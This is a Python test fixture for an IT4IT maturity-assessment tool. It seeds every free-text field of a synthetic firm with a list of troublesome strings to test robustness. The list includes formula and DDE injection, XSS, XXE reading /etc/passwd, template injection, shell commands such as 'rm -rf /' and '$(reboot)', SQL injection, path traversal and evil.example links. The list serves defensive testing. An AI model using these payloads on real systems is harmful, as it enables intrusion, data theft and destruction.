"""Text that has broken programs before, and a firm with it in every field that takes text.

`questionnaire` and `answers` fill every free-text field with the next of `STRINGS`, beginning
at some place in the list, so that over several turns each field meets many of them. `plain`
turns give the same firm with harmless words in the same fields, to compare with.
"""

from __future__ import annotations

from itertools import count
from typing import TYPE_CHECKING, Any

from builders import TODAY, questionnaire_values
from it4it_assess.engine.assess import assess
from it4it_assess.model.answers import AnswerFile
from it4it_assess.model.questionnaire import Questionnaire

if TYPE_CHECKING:
    from collections.abc import Callable

    from it4it_assess.model.assessment import Assessment

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "{=1+1}",
    "'=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "x;=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title></style></textarea><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "<?php echo 1 ?>",
    "&lt;b&gt;",
    "&#x3C;script&#x3E;",
    "&nbsp;&copy;&bogus;",
    "<b>bold</b> & \"quoted\" & 'single'",
    "</td></tr></table><h1>out</h1>",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "</w:t></w:r></w:p>",
    "<style>*{display:none}</style>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "url(http://evil.example/x)",
    "expression(alert(1))",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in y %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%s%s%s%n",
    "{0} {name} {self.__class__}",
    "$(reboot)",
    "`reboot`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "Robert'); DROP TABLE answers;--",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "C:\\Windows\\system32",
    "\\\\server\\share",
    "_x0041_ _x000D_",
    "PAGE \\* MERGEFORMAT",
)
MARKDOWN = (
    "# heading",
    "## heading\n\ntext",
    "- item\n- item",
    "1. one",
    "> quoted",
    "| a | b |\n| - | - |",
    "a | b",
    "***",
    "---",
    "===",
    "```\ncode\n```",
    "`code`",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<http://evil.example>",
    "http://evil.example/",
    "*stars* _lines_ **two** ~~gone~~",
    "[ref]: http://evil.example",
    "line one\n\n    indented",
    "ends with a backslash\\",
    "{code}x{code} !x.png! [~admin] {color:red}",
    "@everyone #1 octocat/repo#1",
    "$E=mc^2$ $$x$$",
    "- [ ] task",
    "[^1]: note",
)
LETTERS = (
    "\u202egnp.exe",
    "\u2066\u2067\u2068 isolates \u2069",
    "\u200f\u05e9\u05dc\u05d5\u05dd",
    "\u0645\u0631\u062d\u0628\u0627",
    "zero\u200bwidth\u200c\u200d\ufeff",
    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309",
    "Z\u0351\u036b\u0343a\u0369\u036bl\u0363g\u0364o\u0349",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1f3\U0001f1f1 \U0001f3f4",
    "\u65e5\u672c\u8a9e\u306e\u6587\u7ae0",
    "\u041f\u0440\u0438\u0432\u0435\u0442",
    "\u0130stanbul \u0131 \u00df \ufb01",
    "\u2028line\u2029paragraph",
    "non\u00a0breaking\u00a0space",
    "\u3000wide space",
    "\ufffd\ufffc",
    "\U000e0001\U000e0061",
    "\U0001d54f \U00010348 \U0010fffd",
    "\ufdd0 \ufffe \uffff \U0001ffff",
    "\x00\x01\x07\x08\x0b\x0c\x0e\x1b[31m\x7f",
    "\x85 \x9b31m",
)
"""The last four but one hold what is no character, and what XML cannot hold."""
VALUES = (
    " ",
    "\n",
    "\t",
    "0",
    "-1",
    "1e1000",
    "007",
    "1/2",
    "2026-01-01",
    "NaN",
    "inf",
    "null",
    "None",
    "true",
    "NO",
    "undefined",
    "'",
    '"',
    '""',
    ",",
    ";",
    '","',
    "a\r\nb",
    "CON",
    "x" * 10_000,
    "word " * 2_000,
)
STRINGS = (*FORMULAS, *MARKUP, *TEMPLATES, *MARKDOWN, *LETTERS, *VALUES)
TURNS = 12
"""How many times the strings are dealt out; each turn begins further down the list."""

HERE = "free text"
"""Stands where the next string goes."""


def _dealt(value: Any, deal: Callable[[], str]) -> Any:
    """Return a value with the next text in each place that says `HERE`."""
    if isinstance(value, dict):
        return {key: _dealt(inner, deal) for key, inner in value.items()}
    if isinstance(value, (list, tuple)):
        return [_dealt(inner, deal) for inner in value]
    return deal() if value == HERE else value


def _dealer(turn: int, *, plain: bool) -> Callable[[], str]:
    places = count(turn * len(STRINGS) // TURNS)

    def deal() -> str:
        place = next(places)
        return f"Word {place}" if plain else STRINGS[place % len(STRINGS)]

    return deal


def firm(turn: int, *, plain: bool = False) -> tuple[Assessment, Questionnaire]:
    """Return a firm's assessment and its questionnaire with text from the list everywhere."""
    deal = _dealer(turn, plain=plain)
    asked = Questionnaire.model_validate(_dealt(_questionnaire(), deal))
    file = AnswerFile.model_validate(_dealt(_answers(), deal))
    return assess(asked, file, today=TODAY, samples=20), asked


def _questionnaire() -> dict[str, Any]:
    scale = [{"value": value, "name": HERE, "means": HERE} for value in range(6)]
    values = questionnaire_values(
        _stream("a"),
        _stream("b"),
        {**_stream("s"), "kind": "supporting"},
        title=HERE,
        version=HERE,
        language="en",
        about=HERE,
        notice=HERE,
        criteria=[
            {"id": name, "title": HERE, "asks": HERE, "reads": HERE}
            for name in ("pain", "goals", "gap", "readiness", "effort", "enabling")
        ],
        dependencies=[{"stream": "b", "needs": "a", "score": 3, "because": HERE}],
        goals=[
            {
                "id": "grow",
                "title": HERE,
                "says": HERE,
                "pulls": {"a.part": {"strength": 4, "because": HERE}},
            }
        ],
        lenses=[{"id": "safe", "title": HERE, "about": HERE}],
        views=[
            {
                "id": "other",
                "title": HERE,
                "about": HERE,
                "groups": [
                    {
                        "id": "group",
                        "title": HERE,
                        "about": HERE,
                        "stages": [{"id": "stage", "title": HERE}],
                        "components": ["b.part"],
                    }
                ],
                "dependencies": [],
            }
        ],
        sectors=[{"id": "food", "title": HERE, "note": HERE}],
        regulations=[{"id": "law", "title": HERE, "note": HERE}],
        target_rules=[{"when": {"sector": "food"}, "stream": "a", "by": 0.5, "because": HERE}],
        crosswalks={"itil": {"title": HERE, "entries": {"entry": HERE}}},
    )
    return {**values, "scale": scale}


def _stream(name: str) -> dict[str, Any]:
    questions = [
        {
            "id": f"{name}.{number}",
            "ask": HERE,
            "why": HERE,
            "weight": 1,
            "essential": True,
            "lenses": ["safe"],
            "v3": "stage",
            "levels": dict.fromkeys(range(6), HERE),
            "advice": {0: HERE, 1: HERE},
            "evidence": [HERE],
        }
        for number in range(1, 5)
    ]
    work = [
        {
            "id": f"{name}.{job}",
            "title": HERE,
            "outcome": HERE,
            "lifts": {f"{name}.{number}": 4},
            "effort_days": {"micro": 2, "small": 3, "medium": 4},
            "driven_by": HERE,
            "needs": [] if number == 1 else [f"{name}.do-1"],
            "owner": HERE,
            "first_step": HERE,
            "steps": [HERE, HERE],
            "done_when": HERE,
            "risk": HERE,
            "resistance": {"expect": HERE, "answer": HERE},
            "lenses": ["safe"],
            "tools": [f"{name}.tool"],
            "indicators": [f"{name}.count"],
        }
        for number in (1, 2)
        for job in (f"do-{number}",)
    ]
    return {
        "id": name,
        "title": HERE,
        "kind": "primary",
        "weight": 1,
        "target": 3,
        "about": HERE,
        "components": [
            {
                "id": f"{name}.part",
                "title": HERE,
                "weight": 1,
                "about": HERE,
                "without": HERE,
                "data_objects": [HERE],
                "crosswalk": {"itil": ["entry"]},
                "questions": questions,
            }
        ],
        "initiatives": work,
        "tools": [
            {
                "id": f"{name}.tool",
                "title": HERE,
                "components": [f"{name}.part"],
                "open_source": [HERE],
                "commercial": [HERE],
                "fits": ["small"],
                "look_for": HERE,
            }
        ],
        "indicators": [
            {
                "id": f"{name}.count",
                "title": HERE,
                "unit": HERE,
                "direction": "up",
                "by_hand": HERE,
                "components": [f"{name}.part"],
            }
        ],
    }


def _answers() -> dict[str, Any]:
    answers: dict[str, Any] = {}
    for name in "abs":
        answers[f"{name}.1"] = {
            "by": {"ann": {"level": 0, "note": HERE}, "ben": {"level": 4, "note": HERE}},
            "note": HERE,
            "evidence": [HERE, HERE],
        }
        answers[f"{name}.2"] = {"level": 1, "unsure": True, "note": HERE, "evidence": [HERE]}
        answers[f"{name}.3"] = {"unknown": True, "note": HERE}
        answers[f"{name}.4"] = {"level": 1, "note": HERE}
    answers["b.4"] = {"not_applicable": HERE, "note": HERE}
    return {
        "format": 1,
        "questionnaire": "tiny",
        "organisation": {
            "name": HERE,
            "sector": "food",
            "employees": 20,
            "it_staff": 1.5,
            "country": HERE,
            "regulation": ["law", HERE],
        },
        "respondents": {
            "ann": {"name": HERE, "role": HERE},
            "ben": {"name": HERE, "role": HERE},
        },
        "context": {
            "goals": {"grow": 5},
            "pain": {"a": 4.5, "b": 2},
            "readiness": {"a": {"sponsor": 4, "skills": 3, "openness": 2}, "b": {"sponsor": 1}},
            "capacity": {
                "days_per_quarter": 4,
                "quarters": 2,
                "day_rate": 612.5,
                "currency": HERE,
            },
            "stakeholders": [{"name": HERE, "role": HERE, "influence": 4, "support": 2}],
            "indicators": {"a.count": {"baseline": 9, "target": 4, "current": 7}},
            "money": {
                "hours_lost_per_month": 10,
                "cost_per_hour": 33.33,
                "tools_per_year": {"a.tool": 1200},
            },
        },
        "answers": answers,
    }
